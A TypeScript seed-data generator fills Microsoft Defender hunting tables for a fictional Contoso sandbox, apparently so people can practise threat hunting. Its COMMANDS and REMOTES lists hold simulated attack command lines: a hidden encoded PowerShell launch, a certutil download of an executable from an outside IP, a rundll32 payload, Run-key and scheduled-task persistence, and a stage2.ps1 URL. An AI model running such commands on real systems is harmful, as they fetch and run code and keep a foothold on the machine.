// Seed rows for the tables the attack story does not write by hand: every column of the schema gets a value chosen
// by its name and type from the sandbox's one fictional tenant (the same devices, accounts, SHA1s, IPs and message
// ids as the story tables), so rows join across tables; activity values (ActionType and the like) are the common
// ones Microsoft documents for each table. Most rows fall in the last week, where hunts usually look.
import { files, maliciousIps, phishingSender, users } from '../seed/entities';
import { datetimeFromParts, datetimeToParts } from './datetime';
import {
  digests,
  HOUR_MS,
  IMAGES,
  initiatingColumns,
  PROFILES,
  sidOf,
  type DeviceProfile,
  type GenContext,
  type Image,
} from './seedBenign';
import { rowFactory, schemaOf } from './seedSchemas';
import type { KqlColumn } from './types';
import type { Row } from './values';

const DAY_MS = 24 * HOUR_MS;

/** Values hunters filter on, per table: documented ActionType values and the like. */
const ACTIONS: Record<string, readonly string[]> = {
  // Documented DeviceEvents action types (advanced-hunting-deviceevents-table.md points to the portal's list).
  DeviceEvents: [
    'AntivirusDetection',
    'AntivirusReport',
    'AntivirusScanCompleted',
    'AntivirusDefinitionsUpdated',
    'AmsiScriptDetection',
    'AppControlExecutionBlocked',
    'AsrLsassCredentialTheftBlocked',
    'AsrOfficeChildProcessBlocked',
    'AsrPsexecWmiChildProcessAudited',
    'AsrRansomwareBlocked',
    'AsrExecutableEmailContentBlocked',
    'BrowserLaunchedToOpenUrl',
    'ControlledFolderAccessViolationBlocked',
    'CreateRemoteThreadApiCall',
    'DnsQueryResponse',
    'DpapiAccessed',
    'DriverLoad',
    'ExploitGuardNetworkProtectionBlocked',
    'ExploitGuardNonMicrosoftSignedBlocked',
    'FirewallInboundConnectionBlocked',
    'FirewallOutboundConnectionBlocked',
    'LdapSearch',
    'LogonRightsSettingEnabled',
    'NamedPipeEvent',
    'NetworkShareObjectAdded',
    'OpenProcessApiCall',
    'PnpDeviceConnected',
    'PowerShellCommand',
    'ProcessCreatedUsingWmiQuery',
    'ReadProcessMemoryApiCall',
    'RemoteDesktopConnection',
    'ScheduledTaskCreated',
    'ScheduledTaskUpdated',
    'SecurityGroupCreated',
    'SecurityLogCleared',
    'ServiceInstalled',
    'SmartScreenUrlWarning',
    'SmartScreenUserOverride',
    'TamperingAttempt',
    'UsbDriveMounted',
    'UserAccountAddedToLocalGroup',
    'UserAccountCreated',
    'WmiBindEventFilterToConsumer',
  ],
  DeviceRegistryEvents: ['RegistryValueSet', 'RegistryKeyCreated', 'RegistryValueDeleted', 'RegistryKeyDeleted'],
  DeviceImageLoadEvents: ['ImageLoaded'],
  IdentityDirectoryEvents: [
    'Group Membership changed',
    'Account Password changed',
    'Account enabled',
    'Directory Services replication',
    'Account Supported Encryption Types changed',
    'Service creation',
  ],
  IdentityQueryEvents: ['LDAP query', 'DNS query', 'SAMR query', 'SAM-R query', 'LDAP query'],
  EmailPostDeliveryEvents: ['Phish ZAP', 'Malware ZAP', 'Manual Remediation', 'Redelivery'],
  UrlClickEvents: ['ClickAllowed', 'ClickBlocked', 'ClickBlockedByTenantPolicy', 'UrlErrorPage'],
  CloudAuditEvents: ['Write', 'Delete', 'Action', 'Read'],
  IdentityEvents: ['SignIn', 'PasswordChange', 'MfaRegistration'],
  BehaviorInfo: ['SuspiciousExplorationActivity', 'ImpossibleTravelActivity', 'MassDownload'],
  BehaviorEntities: ['SuspiciousExplorationActivity', 'ImpossibleTravelActivity', 'MassDownload'],
  CloudProcessEvents: ['ProcessCreated'],
  CloudDnsEvents: ['DnsQueryResponse'],
  DisruptionAndResponseEvents: ['ContainedUserLogonBlocked', 'ContainedUserRemoteDesktopSessionDisconnected'],
};

const SOFTWARE = [
  { vendor: 'microsoft', name: 'windows_11', version: '10.0.22631.3447', cve: 'CVE-2024-21412', severity: 'High' },
  { vendor: 'google', name: 'chrome', version: '123.0.6312.86', cve: 'CVE-2024-4671', severity: 'Critical' },
  { vendor: 'microsoft', name: 'office', version: '16.0.17425.20176', cve: 'CVE-2024-30103', severity: 'High' },
  { vendor: 'openssl', name: 'openssl', version: '3.0.7', cve: 'CVE-2023-0286', severity: 'High' },
  { vendor: '7-zip', name: '7-zip', version: '23.01', cve: 'CVE-2024-11477', severity: 'High' },
] as const;

const REMOTES = [
  { ip: '203.0.113.160', url: 'sharepoint.contoso.com', port: 443 },
  { ip: '10.10.0.2', url: 'dc01.contoso.local', port: 389 },
  { ip: '10.10.0.30', url: 'nas01.contoso.local', port: 445 },
  { ip: maliciousIps[0], url: `http://${maliciousIps[0]}/stage2.ps1`, port: 80 },
  { ip: maliciousIps[1], url: 'fabrikam-payments.example', port: 443 },
  { ip: maliciousIps[2], url: '', port: 3389 },
] as const;

const PHISH_URL = 'https://fabrikam-payments.example/invoice/2026-0113';
const PHISH_MESSAGE_ID = '4f8e2c1a-7b3d-4e9f-a1c2-d3e4f5a6b7c8';

const COMMANDS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'cmd.exe /c whoami /all',
  'rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer',
  'schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc onlogon',
  'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\update.exe',
  'certutil.exe -urlcache -split -f http://198.51.100.23/m.exe C:\\Users\\Public\\m.exe',
  'svchost.exe -k netsvcs -p',
  '"OUTLOOK.EXE"',
];

interface Pick {
  p: DeviceProfile;
  user: (typeof users)[number];
  t: string;
  image: Image & { sha1: string; sha256: string; md5: string };
  remote: (typeof REMOTES)[number];
  attack: boolean;
  command: string;
}

function attackImage(i: number): Pick['image'] {
  const f = files[i % files.length] as (typeof files)[number];
  return {
    fileName: f.fileName,
    folder: 'C:\\Users\\Public',
    company: '',
    description: '',
    size: 1_245_184,
    sha1: f.sha1,
    sha256: f.sha256,
    md5: '',
  };
}

function benignImage(img: Image): Pick['image'] {
  const d = digests(img);
  return { ...img, sha1: d.SHA1, sha256: d.SHA256, md5: d.MD5 };
}

/** Most rows in the last week, a third in the last day. */
function recentTimestamp(g: GenContext): string {
  const r = g.rng.next();
  const span = r < 0.35 ? DAY_MS : r < 0.75 ? 7 * DAY_MS : 30 * DAY_MS;
  return g.rng.timestamp(g.nowMs, span - 60_000, 60_000);
}

function minutesEarlier(t: string, minutes: number): string {
  const { ms, subTicks } = datetimeToParts(t);
  return datetimeFromParts(ms - minutes * 60_000, subTicks) as string;
}

function choose(g: GenContext): Pick {
  const p = g.rng.pick(PROFILES);
  const attack = g.rng.chance(0.3);
  const images = [IMAGES.powershell, IMAGES.cmd, IMAGES.svchost, IMAGES.explorer, IMAGES.outlook, IMAGES.msedge];
  return {
    p,
    user: g.rng.chance(0.8) ? p.user : g.rng.pick(users),
    t: recentTimestamp(g),
    image: attack ? attackImage(g.rng.int(0, 9)) : benignImage(g.rng.pick(images)),
    remote: attack ? g.rng.pick(REMOTES.slice(3)) : g.rng.pick(REMOTES.slice(0, 3)),
    attack,
    command: attack ? g.rng.pick(COMMANDS.slice(0, 6)) : g.rng.pick(COMMANDS.slice(6)),
  };
}

type Rule = (pick: Pick, g: GenContext, table: string) => unknown;

/** Values by exact column name (case-insensitive). */
const BY_NAME: Record<string, Rule> = {
  timestamp: (x) => x.t,
  deviceid: (x) => x.p.device.deviceId,
  devicename: (x) => x.p.device.deviceName,
  machinegroup: (x) => (x.p.device.os.startsWith('WindowsServer') ? 'Servers' : 'Workstations'),
  osplatform: (x) => x.p.device.os,
  osversion: (x) => (x.p.windows ? '10.0' : '14.5'),
  osarchitecture: (x) => (x.p.windows ? 'x64' : 'arm64'),
  accountname: (x) => x.user.accountName,
  accountdomain: () => 'contoso',
  accountupn: (x) => x.user.upn,
  userprincipalname: (x) => x.user.upn,
  accountobjectid: (x) => x.user.objectId,
  accountid: (x) => x.user.objectId,
  accountsid: (x) => sidOf(PROFILES.find((p) => p.user.upn === x.user.upn) ?? x.p),
  onpremsid: (x) => sidOf(PROFILES.find((p) => p.user.upn === x.user.upn) ?? x.p),
  sid: (x) => sidOf(x.p),
  accountdisplayname: (x) => x.user.displayName,
  displayname: (x) => x.user.displayName,
  givenname: (x) => x.user.displayName.split(' ')[0],
  surname: (x) => x.user.displayName.split(' ')[1] ?? '',
  emailaddress: (x) => x.user.upn,
  recipientemailaddress: (x) => x.user.upn,
  recipientobjectid: (x) => x.user.objectId,
  senderfromaddress: (x) => (x.attack ? phishingSender : 'it-support@contoso.com'),
  senderemailaddress: (x) => (x.attack ? phishingSender : 'it-support@contoso.com'),
  senderdisplayname: (x) => (x.attack ? 'Fabrikam Payments' : 'IT Support'),
  targetaccountupn: (x) => x.user.upn,
  targetaccountdisplayname: (x) => x.user.displayName,
  targetdevicename: (x) => x.p.device.deviceName,
  filename: (x) => x.image.fileName,
  folderpath: (x) => `${x.image.folder}\\${x.image.fileName}`,
  sha1: (x) => x.image.sha1,
  sha256: (x) => x.image.sha256,
  md5: (x) => x.image.md5,
  filesize: (x) => x.image.size,
  filetype: (x) => (x.image.fileName.endsWith('.exe') ? 'exe' : 'pdf'),
  processcommandline: (x) => x.command,
  processid: (_x, g) => g.rng.int(700, 15000),
  remoteip: (x) => x.remote.ip,
  ipaddress: (x) => (x.attack ? x.remote.ip : x.p.device.publicIp),
  sourceipaddress: (x) => x.remote.ip,
  destinationipaddress: () => '10.10.0.2',
  destinationdevicename: () => 'dc01.contoso.local',
  localip: (x) => x.p.localIp,
  publicip: (x) => x.p.device.publicIp,
  remoteurl: (x) => x.remote.url,
  url: (x) => (x.attack ? PHISH_URL : 'https://intranet.contoso.com/news'),
  urldomain: (x) => (x.attack ? 'fabrikam-payments.example' : 'intranet.contoso.com'),
  remoteport: (x) => x.remote.port,
  port: (x) => x.remote.port,
  destinationport: () => 389,
  localport: (_x, g) => g.rng.int(49152, 65535),
  networkmessageid: (x, g) => (x.attack ? PHISH_MESSAGE_ID : g.rng.guid()),
  alertid: (_x, g) => `da63${g.rng.int(10_000_000, 99_999_999)}`,
  severity: (x) => (x.attack ? 'High' : 'Low'),
  threattypes: (x) => (x.attack ? 'Phish' : ''),
  threatnames: (x) => (x.attack ? 'Trojan:Win32/Wacatac.B!ml' : ''),
  deliverylocation: (x) => (x.attack ? 'Quarantine' : 'Inbox/folder'),
  country: (x) => (x.attack ? 'NL' : 'US'),
  countrycode: (x) => (x.attack ? 'NL' : 'US'),
  city: (x) => (x.attack ? 'Amsterdam' : 'Seattle'),
  state: (x) => (x.attack ? 'North Holland' : 'Washington'),
  location: (x) => (x.attack ? 'NL' : 'US'),
  isp: (x) => (x.attack ? 'Example Hosting Ltd' : 'Contoso Telecom'),
  useragent: (x) => (x.attack ? 'python-requests/2.31' : 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'),
  application: () => 'Microsoft 365',
  applicationid: () => '00000002-0000-0ff1-ce00-000000000000',
  protocol: () => 'Kerberos',
  logontype: () => 'Interactive',
  registrykey: (x) =>
    x.attack
      ? 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
      : 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender',
  registryvaluename: (x) => (x.attack ? 'Updater' : 'ProductStatus'),
  registryvaluedata: (x) => (x.attack ? 'C:\\Users\\Public\\update.exe' : '0'),
  registryvaluetype: () => 'String',
  cveid: (_x, g) => g.rng.pick(SOFTWARE).cve,
  softwarevendor: (_x, g) => g.rng.pick(SOFTWARE).vendor,
  softwarename: (_x, g) => g.rng.pick(SOFTWARE).name,
  softwareversion: (_x, g) => g.rng.pick(SOFTWARE).version,
  vulnerabilityseveritylevel: (_x, g) => g.rng.pick(['Critical', 'High', 'Medium']),
  iscompliant: (_x, g) => g.rng.chance(0.6),
  isapplicable: () => true,
  configurationid: (_x, g) => `scid-${g.rng.int(2000, 2100)}`,
  macaddress: (x) =>
    `00-15-5D-${x.p.sidSuffix
      .toString(16)
      .toUpperCase()
      .padStart(6, '0')
      .replace(/(..)(..)(..)/, '$1-$2-$3')}`,
  ipaddresses: (x) => JSON.stringify([{ IPAddress: x.p.localIp, SubnetPrefix: 24, AddressType: 'Private' }]),
  networkadapterstatus: () => 'Up',
  networkadaptertype: () => 'Ethernet',
  connectednetworks: () =>
    JSON.stringify([{ Name: 'corp.contoso.com', Category: 'Domain', IsConnectedToInternet: true }]),
  signer: (x) => (x.attack ? '' : 'Microsoft Windows'),
  issuer: (x) => (x.attack ? '' : 'Microsoft Windows Production PCA 2011'),
  issigned: (x) => !x.attack,
  istrusted: (x) => !x.attack,
  isrootsignermicrosoft: (x) => !x.attack,
  querytype: (_x, g) => g.rng.pick(['AllUsers', 'AllGroups', 'PrivilegedGroups', 'AllComputers']),
  query: (_x, g) => g.rng.pick(['(&(objectClass=user)(adminCount=1))', 'Domain Admins', '(objectClass=computer)']),
  querytarget: () => 'Domain Admins',
  action: (x) => (x.attack ? 'Moved to quarantine' : 'Moved to junk folder'),
  actionresult: () => 'Success',
  actiontrigger: () => 'SpecialAction',
  workload: () => 'Email',
  isclickedthrough: (x) => x.attack,
  reportid: (_x, g) => g.rng.guid(),
  categories: () => '["InitialAccess"]',
  attacktechniques: () => '["Phishing (T1566)"]',
  title: (x) => (x.attack ? 'Suspicious sign-in activity' : 'Unusual file access'),
  description: () => '',
};

/** Fallbacks by the shape of the name and the column type. */
function byShape(c: KqlColumn, x: Pick, g: GenContext, table: string): unknown {
  const n = c.name.toLowerCase();
  switch (c.type) {
    case 'datetime':
      return minutesEarlier(x.t, g.rng.int(0, 600));
    case 'bool':
      return n.startsWith('is') ? g.rng.chance(0.3) : false;
    case 'int':
    case 'long':
      return n.includes('count') ? g.rng.int(1, 20) : n.includes('id') ? g.rng.int(1000, 9999) : g.rng.int(0, 5);
    case 'real':
      return Math.round(g.rng.next() * 1000) / 100;
    case 'dynamic':
      return /s$|list|tags|roles|membership|details/.test(n) ? [] : {};
    case 'guid':
      return g.rng.guid();
    case 'timespan':
      return g.rng.int(1, 600) * 10_000_000;
    default:
      break;
  }
  if (n === 'actiontype') return g.rng.pick(ACTIONS[table] ?? ['']);
  if (n.endsWith('upn') || n.endsWith('email')) return x.user.upn;
  if (n.endsWith('ipaddress') || n.endsWith('ip')) return x.remote.ip;
  if (n.endsWith('url')) return x.remote.url;
  if (n.endsWith('domain') || n.endsWith('domainname')) return 'contoso.com';
  if (n.endsWith('devicename')) return x.p.device.deviceName;
  if (n.endsWith('deviceid')) return x.p.device.deviceId;
  if (n.endsWith('objectid')) return x.user.objectId;
  if (n.endsWith('id')) return g.rng.guid();
  return '';
}

/** A rule's value in the column's type (a flag is a bool in one table and an int in another). */
function conform(v: unknown, c: KqlColumn): unknown {
  if (v === null || v === undefined) return null;
  switch (c.type) {
    case 'string':
      return typeof v === 'string' ? v : typeof v === 'object' ? JSON.stringify(v) : String(v);
    case 'int':
    case 'long':
      return typeof v === 'boolean' ? (v ? 1 : 0) : typeof v === 'number' ? Math.trunc(v) : null;
    case 'real':
      return typeof v === 'number' ? v : typeof v === 'boolean' ? (v ? 1 : 0) : null;
    case 'bool':
      return typeof v === 'boolean' ? v : typeof v === 'number' ? v !== 0 : null;
    case 'dynamic':
      if (typeof v === 'string' && /^[[{]/.test(v)) return JSON.parse(v) as unknown;
      return typeof v === 'object' ? v : [v];
    case 'datetime':
      return typeof v === 'string' && v.length === 28 ? v : null;
    case 'guid':
      return typeof v === 'string' && /^[0-9a-f-]{36}$/.test(v) ? v : null;
    default:
      return v;
  }
}

const makers = new Map<string, (values: Row) => Row>();

function makerFor(table: string): (values: Row) => Row {
  let make = makers.get(table);
  if (!make) {
    make = rowFactory(table);
    makers.set(table, make);
  }
  return make;
}

/** One row of `table` for a chosen device, user, time and kind of activity; `values` set columns outright. */
function rowFor(table: string, g: GenContext, x: Pick, values: Row = {}): Row {
  const columns = schemaOf(table);
  const hasInitiating = columns.some((c) => c.name === 'InitiatingProcessFileName');
  const out: Row = hasInitiating
    ? initiatingColumns(
        x.p,
        x.attack ? IMAGES.powershell : IMAGES.explorer,
        x.attack ? (COMMANDS[0] as string) : '"explorer.exe"',
        minutesEarlier(x.t, 5),
        g.rng.int(700, 9000),
      )
    : {};
  for (const c of columns) {
    if (c.name in values) {
      out[c.name] = conform(values[c.name], c);
      continue;
    }
    if (c.name.startsWith('InitiatingProcess') && c.name in out) continue;
    const rule = BY_NAME[c.name.toLowerCase()];
    out[c.name] = conform(rule ? rule(x, g, table) : byShape(c, x, g, table), c);
  }
  return makerFor(table)(out);
}

/** `count` rows for a table no story generator covers. */
export function genericRows(table: string, g: GenContext, count: number): Row[] {
  const rows: Row[] = [];
  for (let i = 0; i < count; i++) rows.push(rowFor(table, g, choose(g)));
  return rows;
}

/** One row of `table` on device `p` by `user` at `t`: attack activity (the attack file, hostile IPs and sender)
 * or everyday activity, with `values` set outright. Other columns get values by name and type as in genericRows. */
export function activityRow(
  table: string,
  g: GenContext,
  who: { p: DeviceProfile; user: (typeof users)[number]; t: string; attack: boolean },
  values: Row = {},
): Row {
  const x: Pick = {
    ...who,
    image: who.attack ? attackImage(0) : benignImage(IMAGES.explorer),
    remote: who.attack ? (REMOTES[3] as (typeof REMOTES)[number]) : (REMOTES[0] as (typeof REMOTES)[number]),
    command: who.attack ? (COMMANDS[0] as string) : (COMMANDS[6] as string),
  };
  return rowFor(table, g, x, values);
}

/** How many rows a table gets: inventory-like tables one or two per device, event tables more. */
export function genericRowCount(table: string): number {
  // Many action types, a few rows each.
  if (table === 'DeviceEvents') return 160;
  if (/KB$|Profiles$|Info$|Inventory|Firmware|Gathering|Certificate|Evidence|Nodes|Edges|Assessment/.test(table))
    return 12;
  return 60;
}
